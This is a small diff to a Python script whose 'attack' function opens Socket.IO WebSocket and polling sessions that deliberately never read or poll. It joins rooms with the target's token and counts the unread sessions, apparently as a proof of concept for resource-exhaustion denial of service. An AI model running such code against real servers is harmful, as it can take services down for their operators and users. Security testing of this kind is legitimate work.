@@ -11,6 +11,8 @@ import json
 
 from lines import Line, event, guest, polling, post, request
 
+PROOF = "unread WebSockets"
+
 
 async def attack(target):
     await asyncio.gather(
@@ -28,7 +30,8 @@ async def web_socket_that_never_reads(target):
 async def polling_that_never_polls(target):
     async with await Line.open(target) as line:
         sid = await polling(target, line)
-        for packet in ("40" + json.dumps({"token": target.token}), f'420["room:join",{{"roomId":"{target.room}"}}]'):
+        join = "420" + json.dumps(["room:join", {"roomId": target.room}])
+        for packet in ("40" + json.dumps({"token": target.token}), join):
             await line.send(post(sid, packet.encode()))
             await line.response()
         target.tally("unread sessions")
